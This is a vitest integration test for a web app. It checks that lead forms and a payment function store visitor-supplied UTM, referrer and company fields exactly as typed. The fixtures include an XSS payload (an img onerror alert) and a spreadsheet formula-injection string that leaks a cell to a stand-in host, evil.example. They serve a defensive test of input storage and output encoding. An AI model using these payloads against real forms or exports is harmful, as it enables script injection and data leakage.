import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { browserClient, founder, startTestServer, type TestServer } from './http-harness';
import { startPaymentsServer, type PaymentsServer } from './payments-harness';

/**
 * Issue 7, point 15: markup and spreadsheet formulas that visitors send are stored exactly as
 * typed — not stripped, not escaped — so nothing is lost and no output is escaped twice. Every
 * output path encodes for its own context instead (src/lib/encode.ts, docs/operators/security.md, "Stored input and
 * output encoding"). This pins the storing half over HTTP, the way a browser sends it.
 */
const img = '<img src=x onerror=alert(1)>';
const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
const utm = { source: img, medium: formula, campaign: '@SUM(1+1)', term: '-2+3', content: '"quoted" & <b>bold</b>' };
const referrer = `https://evil.example/?q=${img}&f=${formula}`;

let server: TestServer;
beforeAll(async () => {
  server = await startTestServer();
});
afterAll(() => server?.close());

const rowOf = async (table: string, id: unknown, columns: string) =>
  (await server.backend.db.query<Record<string, unknown>>(`select ${columns} from public.${table} where id = $1`, [id])).rows[0];

describe('lead data is stored exactly as typed (markup and formulas included)', () => {
  it('founder application: UTM and referrer', async () => {
    const { data, error } = await browserClient(server.url).rpc('submit_founder_application', { ...founder, route: '/', locale: 'en', utm, referrer });
    expect(error).toBeNull();
    expect(await rowOf('founder_applications', (data as { id: string }).id, 'utm, referrer')).toEqual({ utm, referrer });
  });

  it('partnership application: company name, land details, UTM and referrer', async () => {
    const companyName = `${formula} ${img}`;
    const landDetails = `Ten hectares by the sea. ${img} ${formula} +1 -1 @me`;
    const { data, error } = await browserClient(server.url).rpc('submit_partnership_application', {
      ...founder,
      companyName,
      landDetails,
      route: '/',
      locale: 'en',
      utm,
      referrer,
    });
    expect(error).toBeNull();
    expect(await rowOf('partnership_applications', (data as { id: string }).id, 'company_name, land_details, utm, referrer')).toEqual({
      company_name: companyName,
      land_details: landDetails,
      utm,
      referrer,
    });
  });
});

describe('a payment keeps its lead data as typed too', () => {
  // Payments need a backend that knows its own origin (payments-harness), not the forms' server.
  let payments: PaymentsServer;
  beforeAll(async () => {
    payments = await startPaymentsServer();
  });
  afterAll(() => payments?.close());

  it('payment: UTM and referrer', async () => {
    const { data, error } = await browserClient(payments.url).functions.invoke('create-payment', {
      body: { productId: 'mansion', route: '/mansion', locale: 'en', utm, referrer },
    });
    expect(error).toBeNull();
    const sessionId = new URL((data as { url: string }).url).searchParams.get('session_id');
    const { rows } = await payments.backend.db.query('select utm, referrer from public.payments where stripe_session_id = $1', [sessionId]);
    expect(rows).toEqual([{ utm, referrer }]);
  });
});
